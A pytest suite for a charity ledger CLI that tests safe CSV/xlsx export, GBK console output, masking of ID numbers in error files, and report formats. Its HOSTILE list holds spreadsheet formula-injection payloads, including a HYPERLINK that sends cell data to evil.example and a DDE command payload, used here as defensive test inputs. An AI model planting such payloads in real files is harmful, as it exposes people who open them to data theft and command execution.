"""Outputs that are safe to open: CSV that Excel cannot run, workbooks that always reopen, a
GBK console that never gets a traceback, an --errors-out file fit to leave the office, and a
report whose format is the one its file name says."""

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import FULL_ID
from sheets import csv_file, make_id, xlsx

from charitybook.cli import output
from charitybook.cli.output import Column

BIN = Path(sys.executable).parent / "charitybook"  # the installed program, as a clerk runs it
ID_A = make_id("61100219520304001")
ID_B = make_id("61100220100315002")
ID_GUARDIAN = make_id("61100219800101123")
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
           "＝1+1"]


def _csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


# --- CSV -------------------------------------------------------------------------------------

def test_csv_text_cells_that_start_like_a_formula_get_a_quote(cb):
    for name in HOSTILE:
        cb("add-donation", f"--donor={name}", "--amount", "10", "--date", "2021-03-01", f"--note={name}")
    rows = _csv_rows(cb("list", "donations", "--format", "csv").stdout)
    assert [row["donor"] for row in rows] == ["'" + name for name in HOSTILE]
    assert [row["note"] for row in rows] == ["'" + name for name in HOSTILE]
    assert {row["amount"] for row in rows} == {"10.00"} and {row["id"] for row in rows} == {str(n) for n in range(1, 7)}
    assert [d["donor"] for d in cb.json("list", "donations")] == HOSTILE  # JSON is data: never altered


def test_csv_escapes_tab_cr_and_nul_but_leaves_numbers_and_safe_text_alone(capsys):
    columns = [Column("name", "Name"), Column("amount", "Amount", "fen", "money"), Column("n", "N", kind="int"),
               Column("qty", "Qty", kind="decimal")]
    rows = [{"name": "\tx", "fen": -50000, "n": -3, "qty": "-2.5"}, {"name": "\r=1", "fen": 0, "n": 0, "qty": "1"},
            {"name": "\0=1", "fen": 1, "n": 1, "qty": "1"}, {"name": "王-某 = ok", "fen": 1, "n": 1, "qty": "1"},
            {"name": "'quoted", "fen": 1, "n": 1, "qty": "1"}]
    output.render(rows, columns, "csv")
    got = _csv_rows(capsys.readouterr().out)
    assert [row["name"] for row in got] == ["'\tx", "'\r=1", "'\0=1", "王-某 = ok", "'quoted"]
    assert (got[0]["amount"], got[0]["n"], got[0]["qty"]) == ("-500.00", "-3", "-2.5")  # a real minus stays a number


def test_csv_to_a_file_starts_with_a_bom_and_json_does_not(cb):
    cb("add-donation", "--donor", "王某", "--amount", "10", "--date", "2021-03-01")
    assert cb("list", "donations", "--format", "csv").stdout.startswith("\ufeffid,")
    assert cb("list", "donations", "--format", "json").stdout.startswith("[")


# --- xlsx ------------------------------------------------------------------------------------

BAD_TEXT = "王\ufffe某\uffff\x00\x07\x1b\x1f\ud800\udfff好"


def _reopen(path: Path) -> list[list]:
    """Both readers the project uses must open it; returns openpyxl's cell values."""
    import openpyxl
    from python_calamine import CalamineWorkbook

    workbook = CalamineWorkbook.from_path(str(path))
    for name in workbook.sheet_names:
        workbook.get_sheet_by_name(name).to_python()
    return [[cell.value for cell in row] for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows()]


def test_safe_text_keeps_text_as_text_and_drops_what_xlsx_cannot_hold(tmp_path):
    import openpyxl

    from charitybook.excel import safe_text

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    values = [BAD_TEXT, "=1+1", "#N/A", "+861234", "-1", "@A1", "\t=1", "x" * 40000, 12.5, 7]
    for col, value in enumerate(values, start=1):
        safe_text(sheet.cell(row=1, column=col), value)
    workbook.save(tmp_path / "t.xlsx")
    [row] = _reopen(tmp_path / "t.xlsx")
    assert row[0] == "王某好" and row[1:7] == ["=1+1", "#N/A", "+861234", "-1", "@A1", "\t=1"]
    assert len(row[7]) == 32767 and row[7].endswith("…") and row[8:] == [12.5, 7]
    again = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert all(again.cell(1, col).data_type == "s" for col in range(1, 9))
    assert again.cell(1, 2).quotePrefix and not again.cell(1, 1).quotePrefix


def test_a_report_whose_data_holds_unstorable_characters_reopens(tmp_path):
    from charitybook.reports.excel import write

    gift = {"date": "2021-01-01", "receipt_no": "2021-000001", "cash": "10.00", "goods": "0.00",
            "goods_item": BAD_TEXT, "fund": "=HYPERLINK(\"x\")", "channel": "cash"}
    write({"report": "donor", "gifts": [gift]}, "zh", tmp_path / "donor.xlsx")
    values = [v for row in _reopen(tmp_path / "donor.xlsx") for v in row]
    assert "王某好" in values and "=HYPERLINK(\"x\")" in values
    holiday = {"year": 2021, "holiday": "春\ufffe节[1]", "recipients": 1, "persons": 1, "unit": "household",
               "cash": "1.00", "goods": "0.00", "total": "1.00",
               "by_township": [{"township": "城关\x07", "recipients": 1, "cash": "1.00", "goods": "0.00", "total": "1.00"}],
               "by_hardship_type": []}
    write({"report": "holiday", "holidays": [holiday]}, "zh", tmp_path / "holiday.xlsx")
    assert "城关" in [v for row in _reopen(tmp_path / "holiday.xlsx") for v in row]


# --- GBK output ------------------------------------------------------------------------------

def _run(db: Path, *args, encoding="gbk"):
    env = {**os.environ, "PYTHONIOENCODING": encoding, "CHARITYBOOK_DB": str(db)}
    env.pop("FORCE_COLOR", None)
    return subprocess.run([str(BIN), *map(str, args)], env=env, capture_output=True, timeout=120)


@pytest.fixture
def rare(cb):
    """A ledger with a donor whose name is outside GBK."""
    cb("add-donation", "--donor", "䶮", "--amount", "99", "--date", "2021-09-07")
    return cb.db


@pytest.mark.parametrize("args", [
    ["list", "donations"], ["list", "donations", "--format", "csv"], ["list", "donations", "--format", "json"],
    ["list", "donors"], ["show", "1"], ["show", "1", "--format", "json"],
    ["report", "annual", "--year", "2021", "--format", "md"], ["report", "donor", "--year", "2021", "--donor", "䶮"],
    ["report", "annual", "--year", "2021", "--format", "json"],
])
def test_gbk_locale_redirected_output_is_utf8_and_whole(rare, args):
    result = _run(rare, *args)
    assert result.returncode == 0, result.stderr.decode("utf-8", "replace")
    assert b"Traceback" not in result.stderr and b"Traceback" not in result.stdout
    text = result.stdout.decode("utf-8")
    assert "䶮" in text
    if "csv" in args:
        assert text.startswith("\ufeff") and _csv_rows(text)[0]["donor"] == "䶮"
    if "json" in args:
        json.loads(text)


def test_gbk_locale_error_lines_and_files(rare, tmp_path):
    result = _run(rare, "report", "donor", "--year", "2021", "--donor", "䶮x")
    assert result.returncode == 1 and b"Traceback" not in result.stderr
    assert "䶮x" in result.stderr.decode("utf-8")
    result = _run(rare, "report", "annual", "--year", "2021", "--output", tmp_path / "年报.md")
    assert result.returncode == 0 and "䶮" in (tmp_path / "年报.md").read_text(encoding="utf-8")
    result = _run(rare, "add-donation", "--donor", "䶮", "--amount", "1", "--date", "2021-09-08")
    assert result.returncode == 0 and "䶮" in result.stdout.decode("utf-8")


@pytest.mark.skipif(sys.platform == "win32", reason="needs a pseudo-terminal")
def test_gbk_terminal_gets_a_replacement_never_a_traceback(rare):
    import pty

    def on_terminal(*args):
        master, slave = pty.openpty()
        env = {**os.environ, "PYTHONIOENCODING": "gbk", "CHARITYBOOK_DB": str(rare), "COLUMNS": "160"}
        process = subprocess.Popen([str(BIN), *args], stdin=slave, stdout=slave, stderr=slave, env=env)
        os.close(slave)
        chunks = []
        while True:
            try:
                chunk = os.read(master, 65536)
            except OSError:  # the child closed the terminal
                break
            if not chunk:
                break
            chunks.append(chunk)
        os.close(master)
        return process.wait(timeout=120), b"".join(chunks).decode("gbk")

    for args, code in ((["list", "donations"], 0), (["show", "1"], 0), (["list", "donations", "--format", "csv"], 0),
                       (["report", "donor", "--year", "2021", "--donor", "䶮x"], 1)):
        returncode, text = on_terminal(*args)
        assert returncode == code and "Traceback" not in text, text
        assert "?" in text and "\ufeff" not in text


def test_a_reader_that_goes_away_ends_the_program_quietly():
    class Closed(io.StringIO):
        encoding = "utf-8"

        def write(self, text):
            raise BrokenPipeError

    with pytest.raises(SystemExit) as stopped:
        output._Sink(Closed()).write("x")
    assert stopped.value.code == 1


# --- --errors-out ----------------------------------------------------------------------------

ROSTER = [
    ["商州区城关街道2021年春节慰问花名册"],
    ["填报单位：城关街道", None, None, "填报日期：2022年1月20日"],
    ["序号", "姓名", "身份证号", "监护人", "联系电话", "诊断", "慰问金", "备注"],
    [1, "王大山", ID_A, "王二", "13800001111", "急性淋巴细胞白血病", 300, "户主"],
    [2, "张小红", ID_B, "张大", "13900002222", "先天性心脏病", "abc", f"家属身份证{ID_GUARDIAN}"],
    [3, "刘秀英", "61100219481120004", "刘某", "13700003333", "糖尿病", 300, None],
]


def _cells(path: Path) -> tuple[list[list], object]:
    import openpyxl

    sheet = openpyxl.load_workbook(path).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()], sheet


def test_errors_out_carries_only_what_the_township_needs(cb, tmp_path):
    cb("add-donation", "--donor", "某公司", "--amount", "5000", "--date", "2021-01-01")
    out = tmp_path / "退回.xlsx"
    result = cb("import", "relief", xlsx(tmp_path / "roster.xlsx", {"城关街道": ROSTER}), "--holiday", "春节",
                "--date", "2021-02-06", "--errors-out", out, expect=1)
    assert "row 5" in result.stderr
    rows, sheet = _cells(out)
    text = "\n".join(str(value) for row in rows for value in row if value is not None)
    assert not FULL_ID.search(text), FULL_ID.search(text)
    assert "6110**********" in text and "61100219481120004" not in text  # the ID column masked, a 17-digit slip too
    for private in ("监护人", "王二", "张大", "联系电话", "13900002222", "诊断", "白血病", "心脏病", "糖尿病"):
        assert private not in text, private
    header = next(row for row in rows if "原行号" in row)
    assert header[:5] == ["原行号", "姓名", "身份证号", "慰问金", "备注"] and header[-1] == "问题说明"
    assert rows[0][0] == "商州区城关街道2021年春节慰问花名册"
    [bad] = [row for row in rows if row[0] == 5]
    assert bad[1] == "张小红" and bad[2] == "6110**********" + ID_B[-4:] and bad[3] == "abc"
    assert bad[4] == "家属身份证6110**********" + ID_GUARDIAN[-4:] and bad[-1]
    number = rows.index(bad) + 1
    assert sheet.cell(number, 4).fill.fgColor.rgb.endswith("FFC7CE") and not sheet.cell(number, 2).fill.fill_type
    data_rows = [row for row in rows if isinstance(row[0], int)]
    assert all(row[-1] for row in data_rows)  # a row without a problem is not sent back


def _header_and_rows():
    from charitybook.importers.header import find_header

    raw = [(number, list(cells)) for number, cells in enumerate(ROSTER, start=1)]
    header, _consumed = find_header(raw, {}, ("name",), "relief")
    return header, raw


def test_errors_out_writes_the_same_from_all_rows_or_only_the_bad_ones(tmp_path):
    from charitybook.errors import Problem, Source
    from charitybook.importers.errors_out import write

    header, raw = _header_and_rows()
    raw[5][1][2] = 61100219481  # an ID column typed as a number, digits missing
    problems = [Problem(Source("r.xlsx", "S", 5), "慰问金", "abc", "not an amount: 'abc'"),
                Problem(Source("r.xlsx", "S", 6), "身份证号", "6110*********0004", "ID number is not 18 characters")]
    write(tmp_path / "all.xlsx", [("S", header, raw)], problems)
    only = [row for row in raw if row[0] <= header.row or row[0] in (5, 6)]
    write(tmp_path / "only.xlsx", [("S", header, only)], problems)
    assert _cells(tmp_path / "all.xlsx")[0] == _cells(tmp_path / "only.xlsx")[0]
    rows = _cells(tmp_path / "all.xlsx")[0]
    assert [row[0] for row in rows if isinstance(row[0], int)] == [5, 6]
    assert rows[-1][:3] == [6, "刘秀英", "6110***9481"]
    assert not FULL_ID.search(str(rows))


def test_errors_out_without_a_header_sends_back_only_the_problem(tmp_path):
    from charitybook.errors import Problem, Source
    from charitybook.importers.errors_out import write

    problem = Problem(Source("r.csv", None, None), None, None, "no header row found")
    write(tmp_path / "x.xlsx", [(None, None, [(1, [ID_A, "王某", "糖尿病"])])], [problem])
    rows = _cells(tmp_path / "x.xlsx")[0]
    assert rows == [["问题说明：no header row found"]]


def test_errors_out_from_a_csv_with_unstorable_characters_reopens(cb, tmp_path):
    path = csv_file(tmp_path / "d.csv", [["捐赠人", "金额", "日期"], ["王\ufffe某", "abc", "2021-09-07"]])
    cb("import", "donations", path, "--errors-out", tmp_path / "x.xlsx", expect=1)
    values = [v for row in _reopen(tmp_path / "x.xlsx") for v in row]
    assert "abc" in values and 2 in values


# --- report format from the file name --------------------------------------------------------

def test_report_format_follows_the_output_extension(cb, tmp_path):
    import openpyxl

    cb("add-donation", "--donor", "王某", "--amount", "10", "--date", "2021-03-01")
    cb("report", "annual", "--year", "2021", "--output", tmp_path / "a.xlsx")
    assert openpyxl.load_workbook(tmp_path / "a.xlsx").sheetnames
    cb("report", "annual", "--year", "2021", "--output", tmp_path / "a.json")
    assert json.loads((tmp_path / "a.json").read_text(encoding="utf-8"))["report"] == "annual"
    for name in ("a.md", "a.markdown", "A.MD"):
        cb("report", "annual", "--year", "2021", "--output", tmp_path / name)
        assert (tmp_path / name).read_text(encoding="utf-8").startswith("# ")
    result = cb("report", "annual", "--year", "2021", "--format", "json", "--output", tmp_path / "b.json")
    assert "Wrote" in result.stdout and "json" in result.stdout


@pytest.mark.parametrize("args, says", [
    (["--format", "md", "--output", "x.xlsx"], "name the file .md"),
    (["--format", "xlsx", "--output", "x.md"], "name the file .xlsx"),
    (["--output", "x.txt"], ".md, .xlsx or .json"),
    (["--output", "x"], ".md, .xlsx or .json"),
    (["--format", "xlsx"], "--output"),
])
def test_report_refuses_a_format_its_file_name_contradicts(cb, tmp_path, args, says):
    args = [str(tmp_path / a) if a.startswith("x") and a != "xlsx" else a for a in args]
    result = cb("report", "annual", "--year", "2021", *args, expect=2)
    assert says in result.stderr and "Traceback" not in result.stderr
    assert not list(tmp_path.glob("x*"))
